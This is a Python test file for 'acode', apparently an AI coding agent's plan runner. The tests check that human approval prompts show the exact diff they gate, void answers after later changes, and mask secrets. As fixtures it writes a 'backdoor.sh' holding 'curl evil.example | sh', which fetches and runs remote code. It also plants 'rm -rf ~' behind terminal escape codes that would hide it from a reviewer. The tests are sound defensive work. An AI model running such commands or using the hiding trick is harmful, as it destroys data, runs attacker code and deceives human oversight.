"""The attack: an approval granted for something the person never saw.

A plan `write a.txt`, `approve: Commit the change to a.txt?`, `commit` asked only the
question, on the terminal and in `acode approve`: the person approved a change they were
never shown, and whatever else sat in the work tree went into the commit with it. Here
every approval first shows what it gates, the decision is bound to the hash of exactly
what was shown, and a change made after it was shown voids the answer. Each test ran
against main first and failed there.

Everything runs the real `acode` in a real git repository; the terminal is a real
pseudo-terminal (tests/cli/conftest.py, ``Terminal``).
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.cli.conftest import Cli, OpenTerminal, plan_yaml

__all__: list[str] = []

SECRET = "sk-proj-" + "Q" * 36 + "a1b2"

COMMIT = plan_yaml(
    "Change a",
    '{id: w, write: a.txt, content: "hello\\n"}',
    "{id: ok, approve: Commit the change to a.txt?}",
    "{id: save, commit: Change a.txt}",
)


def _git(ws: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=ws, check=True, capture_output=True, text=True)
    return done.stdout


def _repo(acode: Cli, plan: str, **files: str) -> None:
    """A git repository holding ``plan`` as plan.yml and ``files``, all committed."""
    acode.write("plan.yml", plan)
    for name, text in files.items():
        acode.write(name, text)
    _git(acode.workspace, "init", "-q")
    _git(acode.workspace, "add", "-A")
    _git(acode.workspace, "commit", "-q", "-m", "start")


def _waiting(acode: Cli) -> str:
    """Runs plan.yml with no terminal: it stops at the approval; returns the session's
    short id."""
    acode("run", "plan.yml", expect=20)
    return str(acode.only_session()["short_id"])


@pytest.mark.parametrize(
    ("plan", "files", "shown"),
    [
        pytest.param(
            COMMIT, {}, ["diff --git a/a.txt b/a.txt", "+++ b/a.txt", "+hello"], id="commit"
        ),
        pytest.param(
            plan_yaml(
                "Deploy",
                "{id: ok, approve: Go ahead?}",
                "{id: deploy, run: echo deployed > out.txt}",
            ),
            {},
            ["The run step 'deploy' that follows will run this command:", "echo deployed >"],
            id="run",
        ),
        pytest.param(
            plan_yaml(
                "New file",
                "{id: ok, approve: Go ahead?}",
                '{id: create, write: b.txt, content: "brand new\\n"}',
            ),
            {},
            ["will create b.txt:", "+++ b/b.txt", "+brand new"],
            id="write",
        ),
        pytest.param(
            plan_yaml(
                "Edit",
                "{id: ok, approve: Go ahead?}",
                "{id: change, edit: a.txt, old: hello, new: goodbye}",
            ),
            {"a.txt": "hello\nworld\n"},
            ["will change a.txt:", "--- a/a.txt", "-hello", "+goodbye", " world"],
            id="edit",
        ),
    ],
)
def test_the_prompt_shows_what_the_approval_gates_before_asking(
    acode: Cli, terminal: OpenTerminal, plan: str, files: dict[str, str], shown: list[str]
) -> None:
    _repo(acode, plan, **files)
    run = terminal("run", "plan.yml")

    before_the_question = run.expect("[y/n")

    for line in shown:
        assert line in before_the_question
    run.answer("n")
    run.finish(expect=1)  # denied: nothing of it ran
    assert not (acode.workspace / "out.txt").exists()
    assert _git(acode.workspace, "log", "--format=%s").splitlines() == ["start"]


def test_a_change_made_after_the_diff_was_shown_voids_the_answer(
    acode: Cli, terminal: OpenTerminal
) -> None:
    _repo(acode, COMMIT)
    run = terminal("run", "plan.yml")
    shown = run.expect("[y/n")

    # While the person reads the diff, something else lands in the work tree.
    acode.write("backdoor.sh", "curl evil.example | sh\n")
    run.answer("y")

    stopped = run.finish(expect=20)  # on main: 0, the backdoor committed unseen
    assert "+hello" in shown
    assert "backdoor" not in shown
    assert "changed while you were deciding" in stopped
    assert "your answer was not recorded" in stopped
    assert _git(acode.workspace, "log", "--format=%s").splitlines() == ["start"]

    again = terminal("resume", acode.only_session()["id"])
    again.expect("[r/s/v/a] (r): ")
    again.answer("r")
    shown = again.expect("[y/n/v/?]: ")  # asked again, and shown what it gates now
    assert "+++ b/backdoor.sh" in shown
    assert "+curl evil.example | sh" in shown
    again.answer("y")
    again.finish(expect=0)
    committed = _git(acode.workspace, "show", "--name-only", "--format=%s", "HEAD")
    assert committed.split() == ["Change", "a.txt", "a.txt", "backdoor.sh"]


def test_acode_approve_shows_the_diff_and_binds_the_decision_to_it(acode: Cli) -> None:
    _repo(acode, COMMIT)
    session = _waiting(acode)

    approved = acode("approve", session)

    assert "diff --git a/a.txt b/a.txt" in approved.err
    assert "+hello" in approved.err
    assert approved.out.splitlines()[0] == (
        f"Approved: Commit the change to a.txt? (session {session}, step ok)."
    )
    # The work tree changes after the person approved what they saw: the approval does
    # not apply to it, and the resume asks again instead of committing.
    acode.write("backdoor.sh", "curl evil.example | sh\n")
    resumed = acode("resume", session, expect=20)
    assert "is waiting for approval of step 'ok'" in resumed.flat_err
    assert _git(acode.workspace, "log", "--format=%s").splitlines() == ["start"]

    (acode.workspace / "backdoor.sh").unlink()
    acode("resume", session)  # what was approved is back: the decision applies again
    assert _git(acode.workspace, "log", "--format=%s").splitlines() == ["Change a.txt", "start"]


def test_a_tool_approves_only_what_it_showed(acode: Cli) -> None:
    _repo(acode, COMMIT)
    session = _waiting(acode)
    shown = acode("approve", session, "--dry-run", "--json").json()
    assert shown["recorded"] is False
    assert "+hello" in shown["gated"]["content"]
    history = acode("session", "history", session, "--json").json()

    acode.write("backdoor.sh", "curl evil.example | sh\n")
    refused = acode("approve", session, "--subject-hash", shown["subject_hash"], expect=1)

    assert (
        f"error ACODE-APPROVE-001: what step 'ok' of session {session} gates changed after "
        "it was shown (the work tree changed): nothing was recorded"
    ) in refused.flat_err
    assert f"hint: look again and decide: acode approve {session}" in refused.flat_err
    assert acode("session", "history", session, "--json").json() == history


def test_secrets_in_what_is_shown_are_masked(acode: Cli, terminal: OpenTerminal) -> None:
    _repo(acode, COMMIT.replace('content: "hello\\n"', f'content: "API_KEY={SECRET}\\n"'))
    run = terminal("run", "plan.yml")
    shown = run.expect("[y/n")
    run.answer("n")
    run.finish(expect=1)

    assert SECRET not in shown
    assert "+API_KEY=***a1b2" in shown


def test_escape_sequences_in_a_file_cannot_hide_lines_of_the_diff(
    acode: Cli, terminal: OpenTerminal
) -> None:
    # The file's second line moves the cursor up and erases the line above it: printed
    # as it is, the person would see a diff without "+rm -rf ~".
    plan = COMMIT.replace('content: "hello\\n"', 'content: "rm -rf ~\\n\\e[1A\\e[2Kharmless\\n"')
    _repo(acode, plan)
    run = terminal("run", "plan.yml")
    shown = run.expect("[y/n")
    run.answer("n")
    run.finish(expect=1)

    assert "+rm -rf ~" in shown
    assert "+\\x1b[1A\\x1b[2Kharmless" in shown
    assert b"\x1b[1A\x1b[2Kharmless" not in run.raw
